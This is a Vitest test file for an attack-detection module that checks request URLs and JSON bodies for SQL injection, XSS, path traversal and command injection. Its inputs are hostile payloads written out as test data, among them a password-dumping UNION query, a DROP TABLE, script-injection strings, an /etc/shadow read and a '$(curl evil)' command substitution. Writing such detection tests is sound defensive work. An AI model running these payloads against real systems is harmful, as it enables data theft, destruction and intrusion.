import { describe, expect, it } from 'vitest'
import { detectInBody, detectInUrl, escapeSample } from './detection.ts'

describe('attack detection', () => {
  it.each([
    ["/api/orders?status=' OR '1'='1", 'sql_injection'],
    ['/api/orders?q=1 UNION SELECT password FROM users', 'sql_injection'],
    ['/api/orders?id=1;DROP TABLE orders', 'sql_injection'],
    ["/api/orders?id=1' --", 'sql_injection'],
    ['/api/orders?id=1 or 1=1', 'sql_injection'],
    ['/api/x?q=pg_sleep(10)', 'sql_injection'],
    ['/search?q=<script>alert(1)</script>', 'xss'],
    ['/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
    ['/go?next=javascript:alert(1)', 'xss'],
    ['/x?q=<img src=x onerror=alert(1)>', 'xss'],
    ['/static/../../etc/passwd', 'path_traversal'],
    ['/static/%2e%2e%2f%2e%2e%2fetc', 'path_traversal'],
    ['/x?file=..%5c..%5cwin.ini', 'path_traversal'],
    ['/x?host=example.com;cat /etc/shadow', 'path_traversal'],
    ['/x?host=8.8.8.8 && whoami', 'command_injection'],
    ['/x?cmd=$(curl evil)', 'command_injection'],
  ])('flags %s as %s', (url, kind) => {
    expect(detectInUrl(url)?.kind).toBe(kind)
  })

  it.each([
    '/api/orders?status=pending&channel=shopify-uk',
    '/api/products?q=Gin %26 Tonic',
    "/api/products?q=Rock 'n' roll",
    '/api/notes?text=50%25 off -- today only',
    '/api/orders?from=2026-01-01T00:00:00Z',
    '/api/search?q=select the union jack bottle',
  ])('leaves ordinary requests alone: %s', (url) => {
    expect(detectInUrl(url)).toBeNull()
  })

  it('scans string values and keys of JSON bodies', () => {
    expect(detectInBody({ name: 'Gin', notes: ['fine', { deep: "x' OR 'a'='a" }] })?.kind).toBe(
      'sql_injection',
    )
    expect(detectInBody({ '<script>': 1 })?.kind).toBe('xss')
    expect(detectInBody({ name: 'Elderflower Tonic 200ml', qty: 12 })).toBeNull()
    expect(detectInBody(undefined)).toBeNull()
  })

  it('stores a truncated, escaped sample', () => {
    const found = detectInUrl(`/x?q=<script>${'a'.repeat(500)}`)!
    expect(found.sample.length).toBeLessThan(260)
    expect(found.sample).not.toContain('<')
    expect(escapeSample('a\nb<c>')).toBe('a\\nb\\u003cc\\u003e')
  })
})
